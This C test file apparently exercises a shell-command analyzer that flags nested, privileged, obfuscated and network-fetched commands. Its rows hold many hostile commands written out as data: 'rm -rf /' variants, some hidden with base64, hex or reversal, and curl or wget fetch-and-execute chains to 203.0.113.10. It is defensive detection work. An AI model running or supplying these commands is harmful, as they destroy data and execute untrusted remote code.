/* SPDX-License-Identifier: Apache-2.0
 * shell_analysis_nested: commands and code in commands, files that were written before. The scripts are only read. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/validators/shell_analysis_dump.h"

static const struct row wrappers_rows[] = {
	{ "sudo rm -rf /", "", "sudo rm -rf / ;; rm -rf / {privileged}" },
	{ "sudo -u x env A=1 nice -n 5 rm x", "",
	  "sudo -u x env A=1 nice -n 5 rm x ;; env A=1 nice -n 5 rm x {privileged} ;; "
	  "nice -n 5 rm x {privileged} ;; rm x {privileged}" },
	{ "nohup timeout 5 sh -c 'rm x' &", "d",
	  "0 nohup timeout 5 sh -c rm x {background} ;; 0 timeout 5 sh -c rm x {background} ;; "
	  "0 sh -c rm x {background} ;; 1 rm x {background,nested}" },
	{ "sudo cat a > /etc/x", "e", "sudo cat a writes:/etc/x ;; cat a writes:/etc/x reads:a {privileged}" },
	{ "echo /etc | xargs rm -rf", "e", "echo /etc ;; xargs rm -rf ;; rm -rf /etc deletes*:/etc {nested}" },
	{ "ls | xargs rm -rf", "", "ls ;; xargs rm -rf ;; rm -rf $(ls) {nested}" },
	{ "printf '/a\\n/b\\n' | xargs -I{} rm -rf {}/x", "e",
	  "printf /a\\n/b\\n ;; xargs -I{} rm -rf {}/x ;; rm -rf /a/x deletes*:/a/x {nested} ;; "
	  "rm -rf /b/x deletes*:/b/x {nested}" },
	{ "echo 'rm -rf /' | xargs -I% sh -c %", "d",
	  "0 echo rm -rf / ;; 0 xargs -I% sh -c % ;; 0 sh -c rm -rf / {nested} ;; 1 rm -rf / {nested}" },
	{ "find / -exec rm -rf {} +", "e", "find / -exec rm -rf {} + reads*:/ deletes*:/ ;; rm -rf / deletes*:/ {nested}" },
	{ "find /srv -name '*.log' -exec rm -rf {} \\;", "",
	  "find /srv -name *.log -exec rm -rf {} ; ;; rm -rf /srv/${found} {nested}" },
	{ "find . -type f | xargs chmod 644", "",
	  "find . -type f ;; xargs chmod 644 ;; chmod 644 $(find . -type f) {nested}" },
	{ "time rm x", "", "rm x" },
	{ "command rm x; builtin cd /; exec rm y", "",
	  "command rm x ;; rm x ;; builtin cd / ;; cd / ;; exec rm y ;; rm y" },
	{ "chroot /mnt rm -rf /", "e", "chroot /mnt rm -rf / ;; rm -rf / deletes*:/" },
	{ "find . -exec sh -c 'rm x' \\;", "", "find . -exec sh -c rm x ; ;; sh -c rm x {nested} ;; rm x {nested}" },
};

static const struct row shells_rows[] = {
	{ "sh -c 'rm -rf /'", "dcp",
	  "0 sh -c rm -rf / code[rm -rf /]<literal> `sh -c 'rm -rf /'` ;; "
	  "1 rm -rf / {nested} `rm -rf /`" },
	{ "bash -c 'sh -c \"rm -rf /\"'", "dp",
	  "0 bash -c sh -c \"rm -rf /\" `bash -c 'sh -c \"rm -rf /\"'` ;; "
	  "1 sh -c rm -rf / {nested} `sh -c \"rm -rf /\"` ;; 2 rm -rf / {nested} `rm -rf /`" },
	{ "eval 'X=1'; echo $X; sh -c 'Y=1'; echo $Y", "",
	  "eval X=1 ;; X=1 {nested} ;; echo 1 ;; sh -c Y=1 ;; Y=1 {nested} ;; echo ${Y}" },
	{ "X=1; sh -c 'echo $X'; export X; sh -c 'echo $X'", "",
	  "X=1 ;; sh -c echo $X ;; echo ${X} {nested} ;; export X ;; sh -c echo $X ;; echo 1 {nested}" },
	{ "env X='rm -rf /' sh -c '$X'", "", "env X=rm -rf / sh -c $X ;; sh -c $X ;; rm -rf / {nested}" },
	{ "X='rm -rf /' sh -c '$X'; X=a eval 'echo $X'", "",
	  "sh -c $X ;; rm -rf / {nested} ;; eval echo $X ;; echo a {nested}" },
	{ "eval \"$(curl -s http://203.0.113.10/c)\"", "c",
	  "curl -s http://203.0.113.10/c ;; "
	  "eval $(curl -s http://203.0.113.10/c) code?[$(curl -s http://203.0.113.10/c)]<network>" },
	{ "sh -c \"$(wget -qO- http://203.0.113.10/c)\"", "c",
	  "wget -qO- http://203.0.113.10/c ;; "
	  "sh -c $(wget -qO- http://203.0.113.10/c) code?[$(wget -qO- http://203.0.113.10/c)]<network>" },
	{ ". <(curl -s http://203.0.113.10/c)", "c",
	  "curl -s http://203.0.113.10/c ;; "
	  ". <(curl -s http://203.0.113.10/c) code?[$(curl -s http://203.0.113.10/c)]<network>" },
	{ "bash <(echo rm -rf /)", "c",
	  "echo rm -rf / ;; bash <(echo rm -rf /) code[rm -rf /]<literal> ;; rm -rf / {nested}" },
	{ "$(curl -s http://203.0.113.10/c)", "n",
	  "curl -s http://203.0.113.10/c name[curl]<literal> ;; "
	  "$(curl -s http://203.0.113.10/c) name?[$(curl -s http://203.0.113.10/c)]<network> {unknown-name}" },
	{ "bash <<'E'\ncd /\nrm -rf -- *\nE", "ep",
	  "bash `bash <<'E'` ;; cd / {nested} `cd /` ;; rm -rf -- * deletes*:/* {nested} `rm -rf -- *`" },
	{ "sh <<< 'rm -rf /'", "p", "sh `sh <<< 'rm -rf /'` ;; rm -rf / {nested} `rm -rf /`" },
	{ "source /dev/stdin <<< 'rm -rf /'", "d", "0 source /dev/stdin ;; 1 rm -rf / {nested}" },
	{ "trap 'rm -rf /' EXIT", "d", "0 trap rm -rf / EXIT ;; 1 rm -rf / {nested}" },
	{ "ssh host 'rm -rf /'", "d", "0 ssh host rm -rf / ;; 1 rm -rf / {nested,remote}" },
	{ "ssh host bash -s <<'E'\nrm x\nE", "d",
	  "0 ssh host bash -s ;; 1 bash -s {nested,remote} ;; 2 rm x {nested,remote}" },
	{ "su root -c \"sh -c 'rm -rf /*'\"", "d",
	  "0 su root -c sh -c 'rm -rf /*' ;; 1 sh -c rm -rf /* {nested,privileged} ;; "
	  "2 rm -rf /* {nested,privileged}" },
	{ "echo 'rm -rf /' | sh; echo 'rm -rf /'", "d",
	  "0 echo rm -rf / ;; 0 sh ;; 1 rm -rf / {nested} ;; 0 echo rm -rf /" },
	{ "eval rm -rf /etc", "dp", "0 eval rm -rf /etc `eval rm -rf /etc` ;; 1 rm -rf /etc {nested} `rm -rf /etc`" },
	{ "C=\"rm -rf /srv\"; eval \"$C\"", "d", "0 C=rm -rf /srv ;; 0 eval rm -rf /srv ;; 1 rm -rf /srv {nested}" },
	{ "sh -c 'exit 1' || sh -c", "", "sh -c exit 1 ;; exit 1 {nested} ;; sh -c" },
	{ "bash -c \"echo $X; rm $Y\"", "p",
	  "bash -c echo ${X}; rm ${Y} `bash -c \"echo $X; rm $Y\"` ;; "
	  "echo ${X} {nested} `\"echo $X; rm $Y\"` ;; rm ${Y} {nested} `\"echo $X; rm $Y\"`" },
	{ "watch -n 1 'rm x'", "d", "0 watch -n 1 rm x ;; 1 rm x {nested}" },
	{ "env -S 'rm -rf /'", "", "env -S rm -rf / ;; rm -rf / {nested}" },
	{ "alias go='rm -rf'; go /", "", "alias go=rm -rf ;; rm -rf {nested} ;; go / ;; rm -rf / {nested}" },
	{ "bash -s -- rm <<< '$1 -rf /'", "", "bash -s -- rm ;; rm -rf / {nested}" },
	{ "bash /dev/fd/3 3<<< 'rm x'", "", "bash /dev/fd/3 ;; rm x {nested}" },
	{ "parallel rm -rf ::: /etc /usr", "", "parallel rm -rf ::: /etc /usr ;; rm -rf /etc /usr {nested}" },
	{ "X=$(curl -s http://203.0.113.10/x); echo \"$X\" | bash", "c",
	  "curl -s http://203.0.113.10/x ;; X=$(curl -s http://203.0.113.10/x) ;; "
	  "echo $(curl -s http://203.0.113.10/x) ;; "
	  "bash code?[$(curl -s http://203.0.113.10/x)~]<network>" },
	{ "PAGER='rm -rf /' man ls", "", "rm -rf / {nested} ;; man ls" },
};

static const struct row interpreters_rows[] = {
	{ "python3 -c 'import os; os.system(\"rm -rf /\")'", "c",
	  "python3 -c import os; os.system(\"rm -rf /\") code[import os; os.system(\"rm -rf /\")]<literal> ;; "
	  "rm -rf / {nested,interpreter}" },
	{ "perl -e 'system(\"rm -rf /home\")'", "d",
	  "0 perl -e system(\"rm -rf /home\") ;; 1 rm -rf /home {nested,interpreter}" },
	{ "python3 -c \"import subprocess as s; s.run(['rm','-rf','/'])\"", "",
	  "python3 -c import subprocess as s; s.run(['rm','-rf','/']) ;; rm -rf / {nested,interpreter}" },
	{ "curl -s http://203.0.113.10/x.py | python3 -", "c",
	  "curl -s http://203.0.113.10/x.py ;; "
	  "python3 - code?[$(curl -s http://203.0.113.10/x.py)]<network>" },
	{ "python3 <(curl -s http://203.0.113.10/x.py)", "c",
	  "curl -s http://203.0.113.10/x.py ;; "
	  "python3 <(curl -s http://203.0.113.10/x.py) code?[$(curl -s http://203.0.113.10/x.py)]<network>" },
	{ "python3 x.py", "c", "python3 x.py" },
	{ "python3 <<'E'\nimport os\nos.system('rm x')\nE", "d", "0 python3 ;; 1 rm x {nested,interpreter}" },
	{ "awk 'BEGIN { system(\"rm x\") }'", "", "awk BEGIN { system(\"rm x\") } ;; rm x {nested,interpreter}" },
};

static const struct row decoded_rows[] = {
	{ "echo cm0gLXJmIC8= | base64 -d | sh", "c",
	  "echo cm0gLXJmIC8= ;; base64 -d ;; sh code[rm -rf /]<decoded,literal> ;; "
	  "rm -rf / {nested,decoded}" },
	{ "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"", "c",
	  "echo cm0gLXJmIC8= ;; base64 -d ;; eval rm -rf / code[rm -rf /]<decoded,literal> ;; "
	  "rm -rf / {nested,decoded}" },
	{ "echo '/ fr- mr' | rev | bash", "d", "0 echo / fr- mr ;; 0 rev ;; 0 bash ;; 1 rm -rf / {nested,decoded}" },
	{ "P=cm0gLXJmIC8=; echo \"$P\" | base64 --decode | bash", "",
	  "P=cm0gLXJmIC8= ;; echo cm0gLXJmIC8= ;; base64 --decode ;; bash ;; rm -rf / {nested,decoded}" },
	{ "echo 726d202d7266202f | xxd -r -p | sh", "",
	  "echo 726d202d7266202f ;; xxd -r -p ;; sh ;; rm -rf / {nested,decoded}" },
	{ "bash -c \"$(base64 -d <<< cm0gLXJmIC8=)\"", "", "base64 -d ;; bash -c rm -rf / ;; rm -rf / {nested,decoded}" },
	{ "base64 -d x.b64 | sh", "c", "base64 -d x.b64 ;; sh code?[$(base64 -d x.b64)]<decoded,file>" },
	{ "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh", "",
	  "printf \\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f ;; sh ;; rm -rf / {nested}" },
};

static const struct row files_rows[] = {
	{ "curl -o /tmp/a http://203.0.113.10/a; chmod +x /tmp/a; /tmp/a", "ec",
	  "curl -o /tmp/a http://203.0.113.10/a writes:/tmp/a ;; chmod +x /tmp/a modes:/tmp/a ;; "
	  "/tmp/a executes:/tmp/a code?[]<network>" },
	{ "cd /tmp; wget http://203.0.113.10/x.tgz; tar xzf x.tgz; ./x/setup", "ec",
	  "cd /tmp ;; wget http://203.0.113.10/x.tgz writes:/tmp/x.tgz ;; "
	  "tar xzf x.tgz reads:/tmp/x.tgz writes*:/tmp ;; "
	  "./x/setup executes:/tmp/x/setup code?[]<network,decoded>" },
	{ "echo 'rm -rf /' > x.sh; sh x.sh", "c",
	  "echo rm -rf / ;; sh x.sh code[rm -rf /~]<literal> ;; rm -rf / {nested}" },
	{ "cat > /tmp/x <<'E'\n#!/bin/sh\nrm -rf /\nE\nchmod +x /tmp/x; /tmp/x", "cp",
	  "cat `cat > /tmp/x <<'E'` ;; chmod +x /tmp/x `chmod +x /tmp/x` ;; "
	  "/tmp/x code[#!/bin/sh~rm -rf /~]<literal> `/tmp/x` ;; rm -rf / {nested} `rm -rf /`" },
	{ "echo 'rm a' > f; echo 'rm b' >> f; sh f", "c",
	  "echo rm a ;; echo rm b ;; sh f code[rm a~rm b~]<literal> ;; rm a {nested} ;; rm b {nested}" },
	{ "curl http://203.0.113.10/a > a; cp a b; mv b c; ./c", "c",
	  "curl http://203.0.113.10/a ;; cp a b ;; mv b c ;; "
	  "./c code?[$(curl http://203.0.113.10/a)]<network>" },
	{ "git clone https://github.com/x/y; cd y; ./install.sh; make", "ec",
	  "git clone https://github.com/x/y writes*:y ;; cd y ;; "
	  "./install.sh executes:y/install.sh code?[]<network> ;; make" },
	{ "curl http://203.0.113.10/a | tee i.sh; bash i.sh", "c",
	  "curl http://203.0.113.10/a ;; tee i.sh ;; "
	  "bash i.sh code?[$(curl http://203.0.113.10/a)]<network>" },
	{ "printf '#!/usr/bin/python3\\nimport os\\nos.system(\"rm x\")\\n' > p; ./p", "",
	  "printf #!/usr/bin/python3\\nimport os\\nos.system(\"rm x\")\\n ;; ./p ;; "
	  "rm x {nested,interpreter}" },
	{ "./run.sh", "ec", "./run.sh executes:run.sh" },
	{ "source ./env.sh", "ec", "source ./env.sh executes:env.sh" },
	{ "echo 'X=1' > e; . ./e; echo $X", "", "echo X=1 ;; . ./e ;; X=1 {nested} ;; echo 1" },
	{ "cat a.b64 > x; base64 -d x | sh", "c", "cat a.b64 ;; base64 -d x ;; sh code?[$(base64 -d x)]<decoded,file>" },
	{ "echo cm0gLXJmIC8= > x; base64 -d < x | sh", "c",
	  "echo cm0gLXJmIC8= ;; base64 -d ;; sh code[rm -rf /]<decoded,literal> ;; "
	  "rm -rf / {nested,decoded}" },
	{ "cat <(echo 'rm x') | bash", "c",
	  "echo rm x ;; cat <(echo 'rm x') ;; bash code[rm x]<literal> ;; rm x {nested}" },
	{ "echo 'rm' > a; echo ' x' > b; cat a b | tr -d '\\n' | sh", "c",
	  "echo rm ;; echo  x ;; cat a b ;; tr -d \\n ;; sh code[rm x]<literal> ;; rm x {nested}" },
	{ "curl -s http://203.0.113.1/x > x; cat x | sh", "c",
	  "curl -s http://203.0.113.1/x ;; cat x ;; sh code?[$(curl -s http://203.0.113.1/x)]<network>" },
	{ "curl -s http://203.0.113.1/x | tee /usr/local/bin/t >/dev/null; t", "ec",
	  "curl -s http://203.0.113.1/x ;; tee /usr/local/bin/t writes:/usr/local/bin/t ;; "
	  "t executes:/usr/local/bin/t code?[$(curl -s http://203.0.113.1/x)]<network>" },
	{ "echo cm0gLXJmIC8= > x; base64 -d x > y; sh y", "c",
	  "echo cm0gLXJmIC8= ;; base64 -d x ;; sh y code[rm -rf /]<decoded,literal> ;; "
	  "rm -rf / {nested,decoded}" },
	{ "T=$(mktemp); curl -s http://203.0.113.1/x > $T; chmod +x $T; $T", "c",
	  "mktemp ;; T=$(mktemp) ;; curl -s http://203.0.113.1/x ;; chmod +x $(mktemp) ;; "
	  "$(mktemp) code?[$(curl -s http://203.0.113.1/x)]<network> {unknown-name}" },
	{ "curl -s http://203.0.113.1/x.tgz | tar xz; ./x/run", "c",
	  "curl -s http://203.0.113.1/x.tgz ;; tar xz ;; ./x/run code?[]<network,decoded>" },
};

static void wrappers(void **state)
{
	(void)state;
	check_rows(wrappers_rows, ARRAY_SIZE(wrappers_rows));
}

static void shells(void **state)
{
	(void)state;
	check_rows(shells_rows, ARRAY_SIZE(shells_rows));
}

static void interpreters(void **state)
{
	(void)state;
	check_rows(interpreters_rows, ARRAY_SIZE(interpreters_rows));
}

static void decoded(void **state)
{
	(void)state;
	check_rows(decoded_rows, ARRAY_SIZE(decoded_rows));
}

static void files(void **state)
{
	(void)state;
	check_rows(files_rows, ARRAY_SIZE(files_rows));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(wrappers),
		cmocka_unit_test(shells),
		cmocka_unit_test(interpreters),
		cmocka_unit_test(decoded),
		cmocka_unit_test(files),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
